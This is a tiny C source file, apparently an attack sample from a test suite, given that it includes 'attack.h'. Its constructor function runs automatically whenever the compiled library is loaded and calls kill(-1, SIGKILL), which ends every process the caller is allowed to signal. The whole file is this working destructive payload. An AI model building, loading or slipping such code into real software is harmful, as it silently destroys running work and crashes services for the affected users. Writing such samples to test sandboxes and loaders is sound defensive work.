// SPDX-License-Identifier: BSL-1.0
/* Kills every process that it can see, while it is loaded. */
#include <signal.h>

#include "attack.h"

__attribute__((constructor)) static void strike(void) { kill(-1, SIGKILL); }
